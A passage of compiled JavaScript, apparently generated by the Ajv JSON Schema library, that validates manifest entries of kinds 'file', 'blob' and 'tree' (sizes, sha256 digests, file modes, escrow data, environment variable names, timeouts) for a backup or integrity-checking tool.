null;}}}}}else {const err43 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err43];}else {vErrors.push(err43);}errors++;}var _valid0 = _errs19 === errors;if(_valid0 && valid7){valid7 = false;passing0 = [passing0, 1];}else {if(_valid0){valid7 = true;passing0 = 1;}}if(!valid7){const err44 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf",keyword:"oneOf",params:{passingSchemas: passing0},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err44];}else {vErrors.push(err44);}errors++;}else {errors = _errs16;if(vErrors !== null){if(_errs16){vErrors.length = _errs16;}else {vErrors = null;}}}}if(data.timeout_s !== undefined){let data12 = data.timeout_s;if(!(((typeof data12 == "number") && (!(data12 % 1) && !isNaN(data12))) && (isFinite(data12)))){const err45 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err45];}else {vErrors.push(err45);}errors++;}if((typeof data12 == "number") && (isFinite(data12))){if(data12 > 86400 || isNaN(data12)){const err46 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err46];}else {vErrors.push(err46);}errors++;}if(data12 < 1 || isNaN(data12)){const err47 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err47];}else {vErrors.push(err47);}errors++;}}}if(data.env !== undefined){let data13 = data.env;if(Array.isArray(data13)){if(data13.length > 64){const err48 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err48];}else {vErrors.push(err48);}errors++;}const len3 = data13.length;for(let i4=0; i4<len3; i4++){let data14 = data13[i4];if(typeof data14 === "string"){if(!pattern9.test(data14)){const err49 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err49];}else {vErrors.push(err49);}errors++;}}else {const err50 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err50];}else {vErrors.push(err50);}errors++;}}let i5 = data13.length;let j1;if(i5 > 1){const indices0 = {};for(;i5--;){let item0 = data13[i5];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j1 = indices0[item0];const err51 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/uniqueItems",keyword:"uniqueItems",params:{i: i5, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i5+" are identical)"};if(vErrors === null){vErrors = [err51];}else {vErrors.push(err51);}errors++;break;}indices0[item0] = i5;}}}else {const err52 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err52];}else {vErrors.push(err52);}errors++;}}if(data.secret_env !== undefined){let data15 = data.secret_env;if(Array.isArray(data15)){if(data15.length > 64){const err53 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err53];}else {vErrors.push(err53);}errors++;}const len4 = data15.length;for(let i6=0; i6<len4; i6++){let data16 = data15[i6];if(typeof data16 === "string"){if(!pattern9.test(data16)){const err54 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err54];}else {vErrors.push(err54);}errors++;}}else {const err55 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err55];}else {vErrors.push(err55);}errors++;}}let i7 = data15.length;let j2;if(i7 > 1){const indices1 = {};for(;i7--;){let item1 = data15[i7];if(typeof item1 !== "string"){continue;}if(typeof indices1[item1] == "number"){j2 = indices1[item1];const err56 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/uniqueItems",keyword:"uniqueItems",params:{i: i7, j: j2},message:"must NOT have duplicate items (items ## "+j2+" and "+i7+" are identical)"};if(vErrors === null){vErrors = [err56];}else {vErrors.push(err56);}errors++;break;}indices1[item1] = i7;}}}else {const err57 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err57];}else {vErrors.push(err57);}errors++;}}if(data.smoke !== undefined){let data17 = data.smoke;if(typeof data17 === "string"){if(func1(data17) > 65536){const err58 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err58];}else {vErrors.push(err58);}errors++;}if(func1(data17) < 1){const err59 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err59];}else {vErrors.push(err59);}errors++;}}else {const err60 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err60];}else {vErrors.push(err60);}errors++;}}if(data.smoke_timeout_s !== undefined){let data18 = data.smoke_timeout_s;if(!(((typeof data18 == "number") && (!(data18 % 1) && !isNaN(data18))) && (isFinite(data18)))){const err61 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err61];}else {vErrors.push(err61);}errors++;}if((typeof data18 == "number") && (isFinite(data18))){if(data18 > 86400 || isNaN(data18)){const err62 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err62];}else {vErrors.push(err62);}errors++;}if(data18 < 1 || isNaN(data18)){const err63 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err63];}else {vErrors.push(err63);}errors++;}}}if(data.note !== undefined){let data19 = data.note;if(typeof data19 === "string"){if(func1(data19) > 4096){const err64 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err64];}else {vErrors.push(err64);}errors++;}}else {const err65 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err65];}else {vErrors.push(err65);}errors++;}}if(data.expect !== undefined){let data20 = data.expect;if(!(data20 && typeof data20 == "object" && !Array.isArray(data20))){const err66 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err66];}else {vErrors.push(err66);}errors++;}}}else {const err67 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err67];}else {vErrors.push(err67);}errors++;}validate26.errors = vErrors;return errors === 0;}validate26.evaluated = {"props":{"id":true,"kind":true,"path":true,"tier":true,"needs":true,"restore":true,"timeout_s":true,"env":true,"secret_env":true,"smoke":true,"smoke_timeout_s":true,"note":true,"expect":true},"dynamicProps":false,"dynamicItems":false};const pattern11 = new RegExp("^[0-9a-f]{64}$", "u");const pattern12 = new RegExp("^[0-7]{4}$", "u");const pattern13 = new RegExp("^[A-Za-z0-9+/]*={0,2}$", "u");function validate25(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate25.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate26(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate26.errors : vErrors.concat(validate26.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "file"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.sha256 === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data1.mode === undefined){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "mode"},message:"must have required property '"+"mode"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}for(const key0 in data1){if(!(((key0 === "size") || (key0 === "sha256")) || (key0 === "mode"))){const err4 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}if(data2 < 0 || isNaN(data2)){const err7 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}if(data1.sha256 !== undefined){let data3 = data1.sha256;if(typeof data3 === "string"){if(!pattern11.test(data3)){const err8 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}else {const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data1.mode !== undefined){let data4 = data1.mode;if(typeof data4 === "string"){if(!pattern12.test(data4)){const err10 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}}else {const err12 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.escrow !== undefined){let data5 = data.escrow;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(data5.encoding === undefined){const err13 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "encoding"},message:"must have required property '"+"encoding"+"'"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data5.data === undefined){const err14 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/required",keyword:"required",params:{missingProperty: "data"},message:"must have required property '"+"data"+"'"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}for(const key1 in data5){if(!((key1 === "encoding") || (key1 === "data"))){const err15 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}if(data5.encoding !== undefined){if("deflate-base64" !== data5.encoding){const err16 = {instancePath:instancePath+"/escrow/encoding",schemaPath:"#/properties/escrow/properties/encoding/const",keyword:"const",params:{allowedValue: "deflate-base64"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data5.data !== undefined){let data7 = data5.data;if(typeof data7 === "string"){if(func1(data7) > 1048576){const err17 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/maxLength",keyword:"maxLength",params:{limit: 1048576},message:"must NOT have more than 1048576 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if(!pattern13.test(data7)){const err18 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]*={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]*={0,2}$"+"\""};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}else {const err19 = {instancePath:instancePath+"/escrow/data",schemaPath:"#/properties/escrow/properties/data/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}else {const err20 = {instancePath:instancePath+"/escrow",schemaPath:"#/properties/escrow/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}for(const key2 in data){if((((((((((((((key2 !== "kind") && (key2 !== "expect")) && (key2 !== "escrow")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "smoke_timeout_s")) && (key2 !== "note")){const err21 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}}validate25.errors = vErrors;return errors === 0;}validate25.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema45 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"blob"},"expect":{"type":"object","additionalProperties":false,"required":["size","headtail"],"properties":{"size":{"$ref":"#/$defs/size"},"headtail":{"$ref":"#/$defs/sha256"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}}}};function validate29(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate29.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate26(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate26.errors : vErrors.concat(validate26.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "blob"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.size === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "size"},message:"must have required property '"+"size"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data1.headtail === undefined){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "headtail"},message:"must have required property '"+"headtail"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}for(const key0 in data1){if(!((((key0 === "size") || (key0 === "headtail")) || (key0 === "sha256")) || (key0 === "mode"))){const err3 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}if(data1.size !== undefined){let data2 = data1.size;if(!(((typeof data2 == "number") && (!(data2 % 1) && !isNaN(data2))) && (isFinite(data2)))){const err4 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if((typeof data2 == "number") && (isFinite(data2))){if(data2 > 9007199254740991 || isNaN(data2)){const err5 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data2 < 0 || isNaN(data2)){const err6 = {instancePath:instancePath+"/expect/size",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}if(data1.headtail !== undefined){let data3 = data1.headtail;if(typeof data3 === "string"){if(!pattern11.test(data3)){const err7 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}else {const err8 = {instancePath:instancePath+"/expect/headtail",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data1.sha256 !== undefined){let data4 = data1.sha256;if(typeof data4 === "string"){if(!pattern11.test(data4)){const err9 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}else {const err10 = {instancePath:instancePath+"/expect/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data1.mode !== undefined){let data5 = data1.mode;if(typeof data5 === "string"){if(!pattern12.test(data5)){const err11 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/pattern",keyword:"pattern",params:{pattern: "^[0-7]{4}$"},message:"must match pattern \""+"^[0-7]{4}$"+"\""};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/expect/mode",schemaPath:"#/$defs/mode/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}}else {const err13 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}for(const key1 in data){if(((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "smoke_timeout_s")) && (key1 !== "note")){const err14 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}validate29.errors = vErrors;return errors === 0;}validate29.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema50 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"required":["ignore"],"properties":{"kind":{"const":"tree"},"ignore":{"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}},"expect":{"type":"object","additionalProperties":false,"required":["sentinels","min_files"],"properties":{"sentinels":{"type":"array","maxItems":1024,"uniqueItems":true,"items":{"$ref":"#/$defs/relpath"}},"min_files":{"$ref":"#/$defs/size"},"max_files":{"$ref":"#/$defs/size"},"files":{"$ref":"#/$defs/size"},"meta_digest":{"$ref":"#/$defs/sha256"},"content_digest":{"$ref":"#/$defs/sha256"},"special_digest":{"description":"Digest of the path and kind of every special file in walk order (\"char 1:3\", \"block 8:0\", \"fifo\", \"socket\"), so a device swapped for another of the same mode is damage. Present only when the tree holds a special file; a tree recorded without it is checked as before.","$ref":"#/$defs/sha256"},"index":{"type":"object","additionalProperties":false,"required":["sha256","entries"],"properties":{"sha256":{"$ref":"#/$defs/sha256"},"entries":{"$ref":"#/$defs/size"}}}},"description":"A tree imported from format 2 may lack max_files, files and digests until it is captured again; it is then checked by sentinels and min_files only."}}};function validate32(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate32.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate26(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate26.errors : vErrors.concat(validate26.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.ignore === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "ignore"},message:"must have required property '"+"ignore"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind !== undefined){if("tree" !== data.kind){const err1 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "tree"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}}if(data.ignore !== undefined){let data1 = data.ignore;if(Array.isArray(data1)){if(data1.length > 256){const err2 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}const len0 = data1.length;for(let i0=0; i0<len0; i0++){let data2 = data1[i0];if(typeof data2 === "string"){if(func1(data2) > 1024){const err3 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(func1(data2) < 1){const err4 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/properties/ignore/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}let i1 = data1.length;let j0;if(i1 > 1){const indices0 = {};for(;i1--;){let item0 = data1[i1];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j0 = indices0[item0];const err6 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;break;}indices0[item0] = i1;}}}else {const err7 = {instancePath:instancePath+"/ignore",schemaPath:"#/properties/ignore/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.expect !== undefined){let data3 = data.expect;if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.sentinels === undefined){const err8 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "sentinels"},message:"must have required property '"+"sentinels"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data3.min_files === undefined){const err9 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "min_files"},message:"must have required property '"+"min_files"+"'"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}for(const key0 in data3){if(!((((((((key0 === "sentinels") || (key0 === "min_files")) || (key0 === "max_files")) || (key0 === "files")) || (key0 === "meta_digest")) || (key0 === "content_digest")) || (key0 === "special_digest")) || (key0 === "index"))){const err10 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}if(data3.sentinels !== undefined){let data4 = data3.sentinels;if(Array.isArray(data4)){if(data4.length > 1024){const err11 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/maxItems",keyword:"maxItems",params:{limit: 1024},message:"must NOT have more than 1024 items"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}const len1 = data4.length;for(let i2=0; i2<len1; i2++){let data5 = data4[i2];if(typeof data5 === "string"){if(func1(data5) > 4096){const err12 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(func1(data5) < 1){const err13 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/expect/sentinels/" + i2,schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}let i3 = data4.length;let j1;if(i3 > 1){outer0:for(;i3--;){for(j1 = i3; j1--;){if(func0(data4[i3], data4[j1])){const err15 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/uniqueItems",keyword:"uniqueItems",params:{i: i3, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i3+" are identical)"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;break outer0;}}}}}else {const err16 = {instancePath:instancePath+"/expect/sentinels",schemaPath:"#/properties/expect/properties/sentinels/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data3.min_files !== undefined){let data6 = data3.min_files;if(!(((typeof data6 == "number") && (!(data6 % 1) && !isNaN(data6))) && (isFinite(data6)))){const err17 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if((typeof data6 == "number") && (isFinite(data6))){if(data6 > 9007199254740991 || isNaN(data6)){const err18 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}if(data6 < 0 || isNaN(data6)){const err19 = {instancePath:instancePath+"/expect/min_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}if(data3.max_files !== undefined){let data7 = data3.max_files;if(!(((typeof data7 == "number") && (!(data7 % 1) && 